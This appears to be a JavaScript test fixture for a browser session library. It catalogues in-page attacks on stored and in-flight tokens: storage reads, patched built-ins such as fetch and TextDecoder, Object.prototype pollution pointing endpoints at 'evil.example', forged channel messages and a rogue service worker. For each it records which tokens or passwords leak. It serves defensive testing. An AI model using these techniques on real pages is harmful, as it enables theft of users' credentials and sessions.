// The ways to a token that an attacker's script in a page may try, and the result of each: for a
// script that runs before the session is opened, and for one that runs after. The tables in
// docs/security.md say the same.

/** @import { SessionOptions, Session } from 'occ-session' */
/** @import { Thief } from './attacker-thief.js' */

/**
 * @typedef {object} Scene
 * @property {string} backend its address
 * @property {string} evil the address of a host of the attacker's
 * @property {Session} session only after it was opened
 *
 * @typedef {object} Way
 * @property {string} name
 * @property {Partial<SessionOptions>} options
 * @property {(thief: Thief, scene: Scene) => unknown} attack
 * @property {true} [harmless] the back end receives the same requests as without the attack
 * @property {true} [ends] the session, in this page; and nothing is revoked
 * @property {string | null} before the result before the session is opened; null: none
 * @property {string} after the result after it is opened
 */

const storageKey = 'shop';

const nothing = 'nothing';
const access = 'access token';
const tokens = 'access token, refresh token';
const password = 'password';
const accessAndPassword = 'access token, password';
const all = 'access token, refresh token, password';

/** @typedef {'sessionStorage' | 'localStorage'} Area */

/**
 * @param {Area} area
 * @param {'memory' | 'session' | 'local'} storage
 * @param {boolean} persistRefreshToken
 * @param {string} gives
 * @returns {Way}
 */
const stored = (area, storage, persistRefreshToken, gives) => ({
  name: `${area} with storage: '${storage}'${persistRefreshToken ? ', persistRefreshToken' : ''}`,
  options: { storage, persistRefreshToken },
  attack: (thief) => thief.watch(() => ({ ...globalThis[area] })),
  before: gives,
  after: gives,
});

/** @param {string} path from the global object @returns {any} */
function at(path) {
  // The constructor has no name of its own.
  if (path === 'TypedArray.prototype') return Object.getPrototypeOf(Uint8Array).prototype;
  return path
    .split('.')
    .filter(Boolean)
    .reduce((owner, name) => owner[name], /** @type {any} */ (globalThis));
}

/** @type {Record<string, symbol | undefined>} */
const symbols = { '[Symbol.iterator]': Symbol.iterator, '[Symbol.species]': Symbol.species };

/**
 * Spies on functions, constructors and accessors.
 *
 * @param {string} path of their owner
 * @param {Record<string, [before: string, after: string]>} members
 * @returns {Way[]}
 */
const patched = (path, members) =>
  Object.entries(members).map(([member, [before, after]]) => ({
    name: `${path}${path && !member.startsWith('[') ? '.' : ''}${member}`,
    options: { storage: 'memory' },
    attack: (thief) => thief.spyOn(at(path), symbols[member] ?? member),
    before,
    after,
  }));

/**
 * Spies on all functions of a prototype but some.
 *
 * @param {string} path
 * @param {string[]} but
 * @param {[before: string, after: string]} gives
 * @returns {Way}
 */
const patchedRest = (path, but, [before, after]) => ({
  name: but.length > 0 ? `${path}: all others` : `${path}: all of them`,
  options: { storage: 'memory' },
  attack: (thief) => thief.spyOnAll(at(path), [...but, Symbol.iterator]),
  before,
  after,
});

/**
 * Puts a value into Object.prototype, as a merge of foreign JSON may do.
 *
 * @param {string} member
 * @param {unknown} value
 * @param {Partial<SessionOptions>} [options]
 * @returns {Way}
 */
const polluted = (member, value, options = { storage: 'memory' }) => ({
  name: `Object.prototype.${member} = ${JSON.stringify(value)}`,
  options,
  harmless: true,
  attack(thief, { evil }) {
    const text = JSON.stringify(value)
      .replaceAll('https://evil.example/core', `${evil}/core`)
      .replaceAll('https://evil.example', `${evil}/authorizationserver/oauth`);
    /** @type {any} */ (Object.prototype)[member] = JSON.parse(text);
    thief.watch(() => [{ ...sessionStorage }, { ...localStorage }]);
  },
  before: options.storage === 'memory' ? nothing : access,
  after: options.storage === 'memory' ? nothing : access,
});

/**
 * Replaces an accessor in a prototype.
 *
 * @param {string} path
 * @param {string} member
 * @param {[before: string, after: string]} gives
 * @returns {Way}
 */
const accessor = (path, member, [before, after]) => ({
  name: `${path}[${JSON.stringify(member)}] with get and set`,
  options: { storage: 'memory' },
  attack(thief) {
    Object.defineProperty(at(path), member, {
      configurable: true,
      get() {
        thief.take(this);
        return undefined;
      },
      set(value) {
        thief.take(this, value);
        if (typeof value === 'function') value = thief.proxyOf(value);
        Object.defineProperty(this, member, {
          configurable: true,
          enumerable: true,
          writable: true,
          value,
        });
      },
    });
  },
  before,
  after,
});

/**
 * Uses the session itself, which was handed to the script.
 *
 * @param {string} name
 * @param {(thief: Thief, scene: Scene) => unknown} attack
 * @param {string} after
 * @returns {Way}
 */
const handed = (name, attack, after) => ({
  name,
  options: { storage: 'memory' },
  attack,
  before: null,
  after,
});

/** @type {Way[]} */
export const ways = [
  stored('sessionStorage', 'memory', false, nothing),
  stored('sessionStorage', 'memory', true, nothing),
  stored('sessionStorage', 'session', false, access),
  stored('sessionStorage', 'session', true, tokens),
  stored('sessionStorage', 'local', false, nothing),
  stored('sessionStorage', 'local', true, nothing),
  stored('localStorage', 'memory', false, nothing),
  stored('localStorage', 'memory', true, nothing),
  stored('localStorage', 'session', false, nothing),
  stored('localStorage', 'session', true, nothing),
  stored('localStorage', 'local', false, access),
  stored('localStorage', 'local', true, tokens),

  ...patched('', {
    fetch: [all, all],
    Request: [access, access],
    Headers: [nothing, nothing],
  }),
  ...patched('Headers.prototype', {
    set: [access, access],
    get: [nothing, nothing],
    has: [access, access],
  }),
  ...patched('Request.prototype', { headers: [access, access], clone: [access, access] }),
  ...patched('Response.prototype', {
    body: [tokens, tokens],
    clone: [nothing, nothing],
  }),
  ...patched('ReadableStreamDefaultReader.prototype', { read: [tokens, tokens] }),
  ...patched('WebAssembly', {
    instantiate: [tokens, nothing],
    Memory: [nothing, nothing],
  }),
  ...patched('WebAssembly.Memory.prototype', { buffer: [tokens, nothing] }),
  ...patched('TextDecoder.prototype', { decode: [all, all] }),
  ...patched('TextEncoder.prototype', {
    encodeInto: [accessAndPassword, accessAndPassword],
    encode: [password, password],
  }),
  ...patched('TypedArray.prototype', {
    subarray: [all, all],
    set: [tokens, tokens],
    fill: [tokens, tokens],
  }),
  ...patched('Array.prototype', {
    push: [all, all],
    splice: [all, all],
    shift: [nothing, nothing],
    map: [nothing, nothing],
    includes: [nothing, nothing],
    '[Symbol.iterator]': [all, all],
  }),
  patchedRest('Array.prototype', ['push', 'splice', 'shift', 'map'], [nothing, nothing]),
  ...patched('Array', { '[Symbol.species]': [nothing, nothing] }),
  ...patched('Uint8Array', { '[Symbol.species]': [all, all] }),
  ...patched('Object', { entries: [tokens, nothing], freeze: [nothing, nothing] }),
  patchedRest('Map.prototype', [], [nothing, nothing]),
  ...patched('Set.prototype', { add: [access, access] }),
  ...patched('', { Promise: [tokens, tokens] }),
  ...patched('Promise', { race: [nothing, nothing] }),
  ...patched('Promise.prototype', { then: [tokens, tokens], catch: [tokens, tokens] }),
  patchedRest('String.prototype', [], [nothing, nothing]),
  ...patched('RegExp.prototype', {
    exec: [nothing, nothing],
    test: [nothing, nothing],
  }),
  patchedRest('Function.prototype', [], [nothing, nothing]),
  ...patched('JSON', { parse: [nothing, nothing], stringify: [nothing, nothing] }),
  ...patched('', {
    URL: [nothing, nothing],
    Event: [access, access],
    CustomEvent: [access, access],
  }),
  ...patched('EventTarget.prototype', {
    addEventListener: [access, access],
    dispatchEvent: [access, access],
  }),
  ...patched('', {
    BroadcastChannel: [nothing, nothing],
    setTimeout: [nothing, nothing],
    AbortController: [nothing, nothing],
  }),
  ...patched('', { PerformanceObserver: [nothing, nothing] }),
  ...patched('PerformanceObserver.prototype', { takeRecords: [nothing, nothing] }),
  ...patched('Document.prototype', { createElement: [nothing, nothing] }),
  ...patched('Crypto.prototype', { getRandomValues: [nothing, nothing] }),

  ...patched('XMLHttpRequest.prototype', { setRequestHeader: [nothing, nothing] }),
  {
    name: 'Error.prepareStackTrace',
    options: { storage: 'memory' },
    attack(thief) {
      /** @type {any} */ (Error).prepareStackTrace = (
        /** @type {Error} */ _error,
        /** @type {any[]} */ sites,
      ) => thief.take(...sites.map((site) => [site.getThis(), site.getFunction()]));
    },
    before: nothing,
    after: nothing,
  },
  {
    name: 'Storage.prototype.setItem',
    options: { storage: 'session' },
    attack: (thief) => thief.spyOn(Storage.prototype, 'setItem'),
    before: access,
    after: access,
  },

  accessor('Object.prototype', 'then', [tokens, tokens]),
  accessor('Object.prototype', 'authorization', [nothing, nothing]),
  accessor('Object.prototype', 'Authorization', [nothing, nothing]),
  accessor('Object.prototype', 'access_token', [nothing, nothing]),
  accessor('Object.prototype', 'headers', [nothing, nothing]),
  accessor('Object.prototype', 'signal', [nothing, nothing]),
  accessor('Object.prototype', 'occ_sign_in', [nothing, nothing]),
  accessor('Array.prototype', '0', [access, access]),
  accessor('Array.prototype', '3', [all, all]),

  polluted('token', 'https://evil.example/token'),
  polluted('revoke', 'https://evil.example/revoke'),
  polluted('revoke', null),
  polluted('endpoints', { token: 'https://evil.example/token' }),
  polluted('apiPrefixes', ['https://evil.example/']),
  polluted('wasm', 'https://evil.example/core.wasm'),
  polluted('fetch', 'https://evil.example/'),
  polluted('clientSecret', 'of somebody else'),
  polluted('agentClientId', 'of somebody else'),
  polluted('scope', 'of somebody else'),
  polluted('storage', 'local', {}),
  polluted('persistRefreshToken', true, { storage: 'session' }),
  polluted('revocation', { authorization: 'none' }),
  polluted('authorization', 'none'),
  polluted('customerId', '0002'),
  polluted('headers', { 'X-Evil': 'yes' }),
  polluted('credentials', 'include'),
  polluted('redirect', 'follow'),
  polluted('keepalive', true),
  polluted('method', 'GET'),
  polluted('signal', 'https://evil.example/'),
  polluted('referrerPolicy', 'unsafe-url'),
  polluted('once', true),
  polluted('entryTypes', ['resource']),
  // Not harmless: it breaks every fetch of the page.
  { ...polluted('mode', 'no-cors'), harmless: undefined },

  {
    name: "the messages of a BroadcastChannel (storage: 'session')",
    options: { storage: 'session', storageKey },
    attack(thief) {
      new BroadcastChannel(storageKey).onmessage = ({ data }) => thief.take(data);
    },
    before: access,
    after: access,
  },
  {
    name: 'a forged message of a BroadcastChannel',
    options: { storage: 'session', storageKey },
    attack(thief) {
      const channel = new BroadcastChannel(storageKey);
      thief.watch(() => {
        const [, number] = /"number":(\d+)/.exec(sessionStorage.getItem(storageKey) ?? '') ?? [];
        const ended = ['ended', Number(number), 0];
        const forged = [['occ_authorization'], ['wanted', {}], ['saved', number], ['answer', '{}']];
        for (const data of [ended, ...forged, number, {}, null]) channel.postMessage(data);
        return undefined;
      });
    },
    ends: true,
    before: nothing,
    after: nothing,
  },
  {
    name: 'a forged storage event',
    options: { storage: 'memory', storageKey },
    attack(thief) {
      thief.watch(() => {
        sessionStorage.setItem(storageKey, '{"v":1,"epoch":9}');
        localStorage.setItem(storageKey, '{"v":1,"epoch":9}');
        globalThis.dispatchEvent(new globalThis.StorageEvent('storage', { key: storageKey }));
        return [{ ...sessionStorage }, { ...localStorage }];
      });
    },
    harmless: true,
    before: nothing,
    after: nothing,
  },
  {
    name: "a base element that makes the storefront's relative URLs the attacker's",
    options: { storage: 'memory' },
    attack(_thief, { evil }) {
      const base = globalThis.document.createElement('base');
      base.href = evil;
      globalThis.document.head.append(base);
    },
    harmless: true,
    before: nothing,
    after: nothing,
  },
  {
    name: 'performance.getEntries()',
    options: { storage: 'memory' },
    attack: (thief) => thief.watch(() => performance.getEntries().map((entry) => entry.toJSON())),
    before: nothing,
    after: nothing,
  },
  {
    name: "another session, on what is stored (storage: 'memory')",
    options: { storage: 'memory' },
    attack: openAnother('memory'),
    before: nothing,
    after: nothing,
  },
  {
    name: "another session, on what is stored (storage: 'session')",
    options: { storage: 'session' },
    attack: openAnother('session'),
    before: access,
    after: access,
  },
  {
    name: 'a service worker of the same origin',
    options: { storage: 'memory' },
    async attack(thief) {
      new BroadcastChannel('loot').onmessage = ({ data }) => thief.take(...data);
      const { serviceWorker } = navigator;
      const controlled = new Promise((resolve) =>
        serviceWorker.addEventListener('controllerchange', resolve),
      );
      await serviceWorker.register('/attacker-worker.js');
      await controlled;
    },
    before: all,
    after: all,
  },

  handed(
    'session.authorization()',
    (thief, { session }) => thief.watch(() => session.authorization()),
    access,
  ),
  handed(
    'session.renew()',
    (thief, { session }) =>
      thief.watch(() =>
        session.renew(session.authorization() ?? '', {
          status: 401,
          body: '"error":"invalid_token"',
        }),
      ),
    access,
  ),
  handed(
    'session.fetch() of what the API answers',
    (thief, { session, backend }) =>
      thief.watch(() => session.fetch(`${backend}/occ/v2/shop/users/current`)),
    nothing,
  ),
  handed(
    'session.fetch() to a host of the attacker',
    (thief, { session, evil }) =>
      thief.watch(() => session.fetch(`${evil}/occ/v2/shop/users/current`)),
    nothing,
  ),
  handed(
    "the session's own properties, and private members by name",
    (thief, { session }) =>
      thief.watch(() => {
        const members = /** @type {any} */ (session);
        return [
          ...Reflect.ownKeys(session),
          members['#core'],
          members['#authorization'],
          JSON.stringify(session),
          `${session}`,
          JSON.stringify(structuredClone(session.state)),
        ];
      }),
    nothing,
  ),
];

/** @param {'memory' | 'session'} storage @returns {Way['attack']} */
function openAnother(storage) {
  return (thief, { backend: baseUrl }) => {
    thief.watch(async () => {
      const { createSession } = await import(/** @type {string} */ ('/occ-session/index.js'));
      const session = await createSession({ baseUrl, clientId: 'mobile_android', storage });
      thief.take(session.authorization());
      session.close();
    });
  };
}
